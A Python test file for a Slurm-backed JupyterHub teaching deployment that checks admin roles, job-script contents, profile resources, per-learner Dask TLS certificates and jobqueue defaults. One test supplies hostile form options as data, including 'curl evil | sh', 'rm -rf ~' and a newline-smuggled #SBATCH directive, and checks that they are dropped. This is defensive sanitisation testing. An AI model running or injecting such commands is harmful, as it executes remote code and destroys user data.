"""The hub for Slurm with the packages that it is for: its configuration, the job's script that batchspawner makes of it, Dask's defaults."""

import asyncio
import os
import re
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest
from batchspawner import SlurmSpawner
from jupyterhub.app import JupyterHub
from traitlets.config import PyFileConfigLoader

from hundredfold.classroom.seats import certificates
from hundredfold.learning.problems.deploying import script, slurm

FOLDER = Path(__file__).parents[3] / "deploy" / "hub" / "slurm"


@pytest.fixture
def config():
    return PyFileConfigLoader("jupyterhub_config.py", str(FOLDER)).load_config()


class Batch(SlurmSpawner):
    """batchspawner's own, but that what it would hand to sbatch is kept."""

    async def run_command(self, cmd, input=None, env=None):
        self.submitted = (cmd, input, env)
        return "17"


def test_nobody_is_an_admin_and_no_learner_can_take_the_port(config):
    assert config.JupyterHub.authenticator_class.__name__ == "GroupAuthenticator"
    assert "admin_groups" not in config.get("GroupAuthenticator", {}) and "Authenticator" not in config
    assert {"name": "admin", "users": [], "services": []} in config.JupyterHub.load_roles
    assert int(config.JupyterHub.bind_url.rpartition(":")[2]) < 1024 and config.JupyterHub.subdomain_host


def submitted(config, **options):
    """(command line, script, environment) of what is submitted for a learner who sends these options."""
    name = "nobody"

    async def submit():
        user = SimpleNamespace(name=name, url="/user/x", id=1, escaped_name=name, settings={}, admin=False, groups=[])
        spawner = Batch(config=config, user=user, _mock=True)
        spawner.hub = SimpleNamespace(
            public_host="",
            base_url="/hub/",
            api_url="http://10.0.0.1:8081/hub/api",
            server=SimpleNamespace(base_url="/"),
        )
        spawner.get_env = lambda: {"JUPYTERHUB_API_TOKEN": "t", **spawner.environment}
        spawner.get_args = lambda: list(spawner.args)
        for each in ({"profile": "gpu"}, options):  # their second start, after one with another profile
            spawner.user_options = each
            spawner.run_pre_spawn_hook()
        await spawner.submit_batch_script()
        return spawner.submitted

    return asyncio.run(submit())


def test_every_setting_is_one_that_the_hub_and_the_spawner_have(config):
    from hundredfold.classroom.seats.people import GroupAuthenticator

    classes = {
        "JupyterHub": JupyterHub,
        "Spawner": SlurmSpawner,
        "SlurmSpawner": SlurmSpawner,
        "GroupAuthenticator": GroupAuthenticator,
    }
    assert set(config) == set(classes)
    for name, kind in classes.items():
        assert set(config[name]) <= set(kind.class_traits(config=True)), name
    assert JupyterHub(config=config).spawner_class is SlurmSpawner


@pytest.mark.parametrize(
    ("chosen", "partition", "gpus", "memory", "hours"),
    [("gpu", "gpu", 1, 32, 2), ("simulated", "cpu", 0, 4, 4), ("nonsense", "cpu", 0, 4, 4)],
)
def test_the_job_asks_for_what_the_profile_says(config, chosen, partition, gpus, memory, hours):
    _, text, environment = submitted(config, profile=chosen)
    found = slurm.read(text)
    assert found.options["partition"] == partition and slurm.seconds(found.options["time"]) == hours * 3600
    assert slurm.size(found.options["mem"]) == memory * 2**30
    assert slurm.gpus(found.options, 1, 1) == gpus
    assert ("GPUSIM_SIMULATE" in environment) is (chosen != "gpu")
    assert environment["OMP_NUM_THREADS"] == found.options["cpus-per-task"]
    assert subprocess.run(["bash", "-n"], input=text, text=True).returncode == 0


def test_the_job_becomes_the_learners_server_with_private_kernels(config):
    command, text, environment = submitted(config)
    assert command.startswith("sudo -E -u ") and command.endswith("sbatch --parsable")
    (line,) = [line for line in text.splitlines() if "hundredfold-server" in line]
    words = line.split()
    assert (
        words[0] == "srun"
        and words[1].endswith("/bin/batchspawner-singleuser")
        and words[2].endswith("/bin/hundredfold-server")
    )
    assert "--KernelManager.transport=ipc" in words
    kept = re.search(r"#SBATCH --export=(.*)", text)[1].split(",")
    assert set(environment) <= set(kept), "what the hub sets reaches the node"


def test_what_a_browser_sends_beside_a_profile_is_dropped(config):
    """batchspawner puts all options into the script's template: memory, reservation, even the command."""
    evil = {
        "memory": "900G",
        "partition": "professors",
        "cmd": "curl evil | sh",
        "prologue": "rm -rf ~",
        "username": "daemon",
        "gres": "gpu:8\n#SBATCH --account=x",
    }
    command, text, _ = submitted(config, profile="simulated", **evil)
    for words in evil.values():
        assert words.splitlines()[0] not in text, words
    assert command.startswith("sudo -E -u nobody ")
    assert slurm.size(slurm.read(text).options["mem"]) == 4 * 2**30


def test_each_learner_has_a_certificate_of_their_own(config):
    first, second = (submitted(config)[2] for _ in range(2))
    name = "DASK_DISTRIBUTED__COMM__TLS__WORKER__KEY"
    assert first["DASK_DISTRIBUTED__COMM__REQUIRE_ENCRYPTION"] == "true" and "PRIVATE KEY" in first[name]
    assert first[name] != second[name]


def test_the_form_offers_the_profiles_and_reads_what_is_chosen(config):
    spawner = SimpleNamespace()
    form, read = config.Spawner.options_form(spawner), config.Spawner.options_from_form
    names = re.findall(r'<option value="(\w+)"', form)
    assert names == ["simulated", "gpu"]
    assert read({"profile": ["gpu"]}) == {"profile": "gpu"} and read({}) == {"profile": ""}


def test_batchspawner_can_run_the_servers_file_as_python():
    """It is run by runpy, with the port in the environment; a shell script would not do."""
    text = (FOLDER / "hundredfold-server").read_text()
    compile(text, "hundredfold-server", "exec")
    assert os.access(FOLDER / "hundredfold-server", os.X_OK) and "hundredfold.classroom.seats.server" in text


def test_dasks_defaults_for_jobs_are_what_dask_jobqueue_reads(tmp_path):
    """With a learner's certificate, as a seat has it; the script is what SLURMCluster() without arguments would submit."""
    (tmp_path / "jobqueue.yaml").write_text((FOLDER / "jobqueue.yaml").read_text())
    code = "from dask_jobqueue import SLURMCluster\nwith SLURMCluster() as c: print(c.job_script())"
    kept = {name: value for name, value in os.environ.items() if not name.startswith("DASK_")}
    environment = {**kept, "DASK_CONFIG": str(tmp_path), **certificates.settings(*certificates.make("anna"))}
    done = subprocess.run(
        [sys.executable, "-c", code], env=environment, capture_output=True, text=True, timeout=300, cwd=tmp_path
    )
    assert done.returncode == 0, done.stderr
    found = slurm.read(done.stdout)
    assert not found.ignored and slurm.gpus(found.options, 1, 1) == 1 and found.options["partition"] == "gpu"
    assert slurm.seconds(found.options["time"]) == 1800 and slurm.size(found.options["mem"]) == 32 * 2**30
    (worker,) = found.commands
    assert worker[1:4] == ["-m", "dask_cuda.cli", "worker"] and worker[4].startswith("tls://"), worker
    assert script._flags(worker)["dashboard-address"] == "127.0.0.1:0"
    assert script._flags(worker)["death-timeout"] == "120"


def test_every_key_of_the_defaults_is_one_that_dask_jobqueue_has():
    import dask_jobqueue
    import yaml

    theirs = yaml.safe_load((Path(dask_jobqueue.__file__).parent / "jobqueue.yaml").read_text())["jobqueue"]["slurm"]
    ours = yaml.safe_load((FOLDER / "jobqueue.yaml").read_text())["jobqueue"]["slurm"]
    assert set(ours) <= set(theirs)
